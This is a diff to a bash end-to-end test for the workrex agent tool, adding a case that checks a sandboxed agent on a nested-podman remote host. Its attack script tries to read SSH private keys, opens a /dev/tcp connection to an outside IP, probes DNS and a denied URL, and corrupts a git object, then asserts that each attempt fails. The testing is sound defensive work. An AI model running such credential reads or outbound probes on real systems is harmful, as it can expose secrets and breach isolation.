@@ -6,10 +6,13 @@
 # runs there (workrex-server, static, copied by the link); its status
 # reaches the dashboard; merge brings its commits back verified; the
 # host's last agent going destroys the container. A create that fails
-# half way leaves no container and says why.
+# half way leaves no container and says why. A sandboxed agent there (-S):
+# its container made in the engine by the engine's own podman (nested,
+# the engine privileged), and the attack cases that apply there.
 . "$(dirname "$0")/lib.sh"
 here=$(cd "$(dirname "$0")" && pwd)
-trap 'podman ps -aq --filter "name=^wrx-(engine|broken|coder|k8s)-" | xargs -r podman rm -f >/dev/null 2>&1; stop' EXIT
+trap 'podman ps -aq --filter "name=^wrx-(engine|boxed|broken|coder|k8s)-" | xargs -r podman rm -f >/dev/null 2>&1
+	podman volume ls -q | grep "^wrx-boxed-" | xargs -r podman volume rm -f >/dev/null 2>&1; stop' EXIT
 
 "$here/sshd_image.sh" || { echo "not ok - the sshd image could not be built"; exit 1; }
 image=workrex-test-sshd:latest
@@ -51,6 +54,27 @@ engine_setup() {
 		echo "sshd did not answer on $PORT" >&2; exit 1
 	EOF
 	chmod +x "$d/create"
+	# An engine that can run a sandbox: the same server, privileged, its
+	# podman's storage on a volume, the sandbox image loaded into it.
+	cat >"$d/create-boxed" <<-EOF
+		#!/bin/bash
+		set -e
+		podman run -d --name "wrx-boxed-\$1" --network host --privileged \\
+		  -v "wrx-boxed-\$1-store:/var/lib/containers" \\
+		  -v $CONTAINERS_CONF:/etc/containers/containers.conf:ro \\
+		  -v $d/user_key.pub:/root/.ssh/authorized_keys:ro $image \\
+		  sh -c 'mkdir -p /run/sshd && ssh-keygen -A >/dev/null && git config --global user.name S &&
+		    git config --global user.email s@example.com &&
+		    exec /usr/sbin/sshd -D -e -p $PORT -o ListenAddress=127.0.0.1 -o StrictModes=no \\
+		    -o UsePAM=no -o PermitRootLogin=prohibit-password' >/dev/null
+		podman save workrex-test:latest | podman exec -i "wrx-boxed-\$1" podman load -q >/dev/null
+		for i in \$(seq 100); do
+		  ssh -o BatchMode=yes -o ConnectTimeout=2 -p $PORT root@127.0.0.1 true 2>/dev/null && exit 0
+		  sleep 0.1
+		done
+		echo "sshd did not answer on $PORT" >&2; exit 1
+	EOF
+	chmod +x "$d/create-boxed"
 	mkdir -p "$XDG_CONFIG_HOME/workrex"
 	cat >"$XDG_CONFIG_HOME/workrex/config.yaml" <<-EOF
 		agent: bash
@@ -72,6 +96,13 @@ engine_setup() {
 		        endpoint: [echo, "ssh://root@127.0.0.1:$PORT"]
 		        stop: [podman, stop, -t, "0", "wrx-engine-{id}"]
 		        destroy: [podman, rm, -f, "wrx-engine-{id}"]
+		    boxed:
+		      path: /root/clone
+		      podman: true
+		      provision:
+		        create: [$d/create-boxed, "{id}"]
+		        endpoint: [echo, "ssh://root@127.0.0.1:$PORT"]
+		        destroy: [bash, -c, "podman rm -f wrx-boxed-{id} && podman volume rm -f wrx-boxed-{id}-store"]
 		    broken:
 		      path: /root/clone
 		      provision:
@@ -152,6 +183,94 @@ t_engine_stopped_when_idle() {
 	wrx rm -f feat >"$E2E_TMP/rm.out" 2>&1
 	grep -q destroyed "$E2E_TMP/rm.out" || { cat "$E2E_TMP/rm.out" >&2; return 1; }
 	until_ok 10 eval '[ -z "$(containers engine)" ]'
+}
+
+# in_engine CMD...: CMD in the boxed engine (the server), as its root.
+in_engine() { podman exec -i "$(containers boxed)" "$@"; }
+
+# inside SCRIPT: run it in box's pane (its container in the engine), wait, the log in $E2E_TMP/log.
+inside() {
+	local w=/root/clone__worktrees/box
+	printf '%s\necho attack-done >%s/.attack-done\n' "$1" "$w" | in_engine sh -c "cat >$w/.attack.sh"
+	in_engine rm -f "$w/.attack-done" "$w/.attack.log"
+	wrx send box "sh .attack.sh >.attack.log 2>&1"
+	until_ok 60 in_engine test -e "$w/.attack-done" || { screen >&2; in_engine cat "$w/.attack.log" >&2; return 1; }
+	in_engine cat "$w/.attack.log" >"$E2E_TMP/log"
+	in_engine rm -f "$w/.attack.sh" "$w/.attack-done" "$w/.attack.log"
+}
+
+# A sandboxed agent on the provisioned host: the attack cases that apply
+# there. No secret of either machine; no route out under deny (a direct
+# connection, DNS; a name not allowed gets the proxy's 403 there, told to
+# this dashboard); what it spawns is sandboxed there too; the import
+# verified (a corrupted object lands nowhere; the good commit merges).
+t_engine_sandboxed_agent() {
+	engine_setup
+	mkdir -p "$HOME/.ssh"
+	echo LOCAL-KEY >"$HOME/.ssh/id_ed25519"
+	printf 'sandbox:\n  image: workrex-test:latest\n  network:\n    policy: deny\n' \
+		>>"$XDG_CONFIG_HOME/workrex/config.yaml"
+	start_repo 200 45
+	wait_for 'wrx\$|proj'
+	wrx add --remote boxed -S box >/dev/null 2>"$E2E_TMP/err" || { cat "$E2E_TMP/err" >&2; return 1; }
+	wait_for 'box @boxed ▣'
+	until_ok 60 eval 'in_engine podman ps --format "{{.Names}}" | grep -q "^wrx-box-"' ||
+		{ screen >&2; in_engine podman ps -a >&2; tail -5 "$XDG_STATE_HOME"/workrex/workrex.log >&2; return 1; }
+	wrx list | grep -qE '^box +box +.* ssh:boxed/container ' || { wrx list >&2; return 1; }
+	in_engine sh -c 'echo SERVER-KEY >/root/.ssh/id_ed25519'
+	inside "
+		for f in $HOME/.ssh/id_ed25519 /root/.ssh/id_ed25519 /root/.gitconfig; do
+			if grep -q . \$f 2>/dev/null; then echo READABLE \$f; else echo hidden \$f; fi
+		done
+		bash -c 'echo x >/dev/tcp/198.51.100.2/443' 2>/dev/null; echo tcp-\$?
+		getent hosts example.org >/dev/null; echo dns-\$?
+		curl -sS --max-time 10 https://other.test/ 2>&1 | tail -1
+		echo made-in-the-box >inside.txt && git add inside.txt && git commit -qm from-the-box && echo commit-ok
+		workrex set-status waiting && echo status-ok
+		workrex add child >/dev/null 2>&1; echo spawned-\$?
+	"
+	cat "$E2E_TMP/log" >&2
+	not grep -q READABLE "$E2E_TMP/log"
+	[ "$(grep -c '^hidden ' "$E2E_TMP/log")" -eq 3 ]
+	grep -qx 'tcp-1' "$E2E_TMP/log"
+	grep -qx 'dns-2' "$E2E_TMP/log"
+	grep -q '403' "$E2E_TMP/log"
+	grep -qx commit-ok "$E2E_TMP/log"
+	grep -qx status-ok "$E2E_TMP/log"
+	grep -qx spawned-0 "$E2E_TMP/log"
+	# The proxy there counted the refusal to this dashboard (the sidebar's ⊘).
+	wait_for 'box @boxed ▣ ⊘1'
+	until_ok 15 sh -c "cd '$repo' && '$WORKREX' status box | grep -q waiting"
+	# Its spawn: sandboxed there too, a container of its own.
+	wait_for 'child @boxed ▣'
+	until_ok 60 eval 'in_engine podman ps --format "{{.Names}}" | grep -q "^wrx-child-"'
+	# Commit, then corrupt the object it made, in what it may write: imported nowhere.
+	local before
+	before=$(git -C "$repo" rev-parse box)
+	inside "
+		echo planted >x.txt; git add x.txt; git commit -qm corrupt
+		b=\$(git rev-parse HEAD:x.txt); o=\$(git rev-parse --git-dir)/objects/\$(echo \$b | cut -c1-2)/\$(echo \$b | cut -c3-)
+		other=\$(git rev-parse HEAD~1:inside.txt); src=\$(git rev-parse --git-dir)/objects/\$(echo \$other | cut -c1-2)/\$(echo \$other | cut -c3-)
+		chmod u+w \$o; cp \$src \$o && echo corrupted
+	"
+	grep -qx corrupted "$E2E_TMP/log" || { cat "$E2E_TMP/log" >&2; return 1; }
+	not wrx merge box >"$E2E_TMP/merge1" 2>&1
+	grep -q 'failed verification and were not imported' "$E2E_TMP/merge1" || { cat "$E2E_TMP/merge1" >&2; return 1; }
+	in_engine git -C /root/clone log --format=%s box >"$E2E_TMP/there"
+	not grep -qx corrupt "$E2E_TMP/there"
+	git -C "$repo" log --format=%s --all >"$E2E_TMP/here"
+	not grep -qx corrupt "$E2E_TMP/here"
+	[ "$(git -C "$repo" rev-parse box)" = "$before" ]
+	# Undone inside, the good commit lands: verified there, hashed here, merged.
+	inside "git reset -q --hard HEAD~1"
+	wrx merge box >"$E2E_TMP/merge2" 2>&1 || { cat "$E2E_TMP/merge2" >&2; return 1; }
+	git -C "$repo" log --format=%s main | grep -qx from-the-box
+	git -C "$repo" fsck --strict >/dev/null 2>&1
+	until_ok 20 eval '! in_engine podman ps --format "{{.Names}}" | grep -q "^wrx-box-"'
+	# The host's last agent going (child) destroys the engine, its storage too.
+	wrx rm -f child >/dev/null 2>&1
+	until_ok 20 eval '[ -z "$(containers boxed)" ]'
+	not eval 'podman volume ls -q | grep -q "^wrx-boxed-"'
 }
 
 t_engine_create_fails_half_way() {
@@ -290,5 +409,6 @@ t_engine_adapters_recorded() {
 
 run_test "a provisioned engine: made by add --remote, the agent there, merge back, destroyed" t_engine_made_used_destroyed
 run_test "provision.stop when the host's last agent closes (C-b x; close without a dashboard), start when one opens" t_engine_stopped_when_idle
+run_test "a sandboxed agent on the provisioned host: no secret, no route out under deny, its spawn boxed, verified import" t_engine_sandboxed_agent
 run_test "a provisioned engine whose create fails half way leaves nothing" t_engine_create_fails_half_way
 run_test "Coder and Kubernetes adapters against recording fakes of their CLIs" t_engine_adapters_recorded
